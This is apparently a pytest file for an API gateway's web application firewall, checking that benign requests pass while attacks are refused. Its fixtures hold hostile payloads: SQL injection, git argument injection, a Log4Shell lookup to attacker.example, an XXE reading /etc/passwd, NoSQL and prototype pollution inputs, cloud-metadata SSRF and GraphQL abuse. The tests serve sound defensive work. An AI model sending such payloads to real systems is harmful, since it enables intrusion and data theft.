"""Attack detection through a real gateway: browser clients of internal APIs and ordinary
values that used to be refused now reach the upstream; the attacks beside them do not."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any
from urllib.parse import urlencode

import pytest

from tests.support.gateway import GatewayProcess, base_config, http_call
from tests.support.upstream import RecordingUpstream


def send(
    gateway: GatewayProcess,
    method: str,
    target: str,
    body: Any = None,
    headers: dict[str, str] | None = None,
) -> tuple[int, dict[str, Any]]:
    """A JSON body (when given) sent as application/json: status and problem document."""
    all_headers = dict(headers or {})
    data = b""
    if body is not None:
        data = json.dumps(body).encode()
        all_headers["Content-Type"] = "application/json"
    status, _, problem = http_call(gateway.port, method, target, data, all_headers)
    return status, problem


@pytest.fixture
def gateway(
    start_gateway: Callable[..., GatewayProcess], upstream: RecordingUpstream
) -> GatewayProcess:
    config = base_config(upstream.port)
    config["routes"] = [
        {"name": "api", "match": {"path_prefix": "/"}, "upstream": "echo", "waf": {}}
    ]
    return start_gateway(config)


@pytest.mark.parametrize(
    "headers",
    [
        {"Referer": "http://localhost:3000/", "Origin": "http://localhost:3000"},
        {"Referer": "http://10.1.2.3/app", "Origin": "http://10.1.2.3"},
    ],
)
def test_a_browser_app_on_a_local_or_private_host_reaches_the_upstream(
    gateway: GatewayProcess, recording: RecordingUpstream, headers: dict[str, str]
) -> None:
    status, problem = send(gateway, "GET", "/api/v1/accounts", headers=headers)
    assert status == 200, problem
    assert len(recording.requests) == 1


def test_an_internal_callback_url_in_a_header_is_still_refused(
    gateway: GatewayProcess, recording: RecordingUpstream
) -> None:
    headers = {"X-Callback-Url": "http://localhost:3000/", "Referer": "http://localhost:3000/"}
    status, problem = send(gateway, "GET", "/api/v1/accounts", headers=headers)
    assert (status, problem["reason"]) == (403, "waf.ssrf")
    assert recording.requests == []


@pytest.mark.parametrize("phone", ["+2253)-7) ", "12)-34)"])
def test_phone_numbers_reach_the_upstream(
    gateway: GatewayProcess, recording: RecordingUpstream, phone: str
) -> None:
    status, problem = send(gateway, "POST", "/api/v1/accounts", {"name": "Anne", "phone": phone})
    assert status == 200, problem
    status, problem = send(gateway, "GET", "/api/v1/search?" + urlencode({"q": phone}))
    assert status == 200, problem
    assert len(recording.requests) == 2


def test_a_numeric_breakout_with_sql_is_still_refused(
    gateway: GatewayProcess, recording: RecordingUpstream
) -> None:
    body = {"name": "Anne", "phone": "12)-34) union select password from users--"}
    status, problem = send(gateway, "POST", "/api/v1/accounts", body)
    assert (status, problem["reason"]) == (403, "waf.sqli")
    assert recording.requests == []


@pytest.mark.parametrize("path", ["/graphql", "/api/v2/query"])
@pytest.mark.parametrize(
    ("document", "rule"),
    [
        (
            "query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }",
            "graphql-fragment-cycle",
        ),
        (
            "query { " + " ".join(f'a{i}: search(q:"x") {{ id }}' for i in range(500)) + " }",
            "graphql-aliases",
        ),
        ("query { accounts(first: 1000000) { id } }", "graphql-page-size"),
    ],
)
def test_graphql_abuse_is_refused_without_a_schema(
    gateway: GatewayProcess, recording: RecordingUpstream, path: str, document: str, rule: str
) -> None:
    status, problem = send(gateway, "POST", path, {"query": document})
    assert (status, problem["reason"]) == (403, "waf.graphql_abuse")
    assert rule in problem["rules"]
    assert recording.requests == []


def test_an_ordinary_graphql_query_reaches_the_upstream(
    gateway: GatewayProcess, recording: RecordingUpstream
) -> None:
    document = (
        "query { a: account(id: 1) { ...A } b: account(id: 2) { ...A } } "
        "fragment A on Account { id name }"
    )
    status, problem = send(gateway, "POST", "/api/v2/query", {"query": document})
    assert status == 200, problem
    assert len(recording.requests) == 1


SVG_XXE = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
)
AVATAR = (
    b'--b\r\nContent-Disposition: form-data; name="avatar"; filename="me.png"\r\n'
    b"Content-Type: image/png\r\n\r\n" + SVG_XXE + b"\r\n--b--\r\n"
)
JSON = {"Content-Type": "application/json"}


@pytest.mark.parametrize(
    ("method", "target", "body", "headers", "rule"),
    [
        (
            "GET",
            "/api/repos?" + urlencode({"ref": "--upload-pack=touch /tmp/x"}),
            b"",
            {},
            "cmdi-argument-injection",
        ),
        (
            "GET",
            "/api/v1/accounts",
            b"",
            {"If-None-Match": "${jndi:ldap://attacker.example/a}"},
            "log4shell-jndi",
        ),
        (
            "POST",
            "/api/v1/accounts/7",
            json.dumps({"$set": {"role": "admin"}}).encode(),
            JSON,
            "nosql-operator-key",
        ),
        (
            "POST",
            "/api/v1/avatar",
            AVATAR,
            {"Content-Type": "multipart/form-data; boundary=b"},
            "xxe-doctype",
        ),
        (
            "PATCH",
            "/api/v1/accounts/7",
            json.dumps([{"op": "add", "path": "/__proto__/admin", "value": True}]).encode(),
            {"Content-Type": "application/json-patch+json"},
            "prototype-pollution-text",
        ),
        (
            "POST",
            "/api/v1/webhooks",
            json.dumps({"url": "http://169.254.169.254.nip.io/latest/meta-data/"}).encode(),
            JSON,
            "ssrf-internal-host",
        ),
    ],
)
def test_attack_classes_that_used_to_pass_are_refused_before_the_upstream(
    gateway: GatewayProcess,
    recording: RecordingUpstream,
    method: str,
    target: str,
    body: bytes,
    headers: dict[str, str],
    rule: str,
) -> None:
    status, _, problem = http_call(gateway.port, method, target, body, headers)
    assert status == 403, problem
    assert rule in problem["rules"]
    assert recording.requests == []
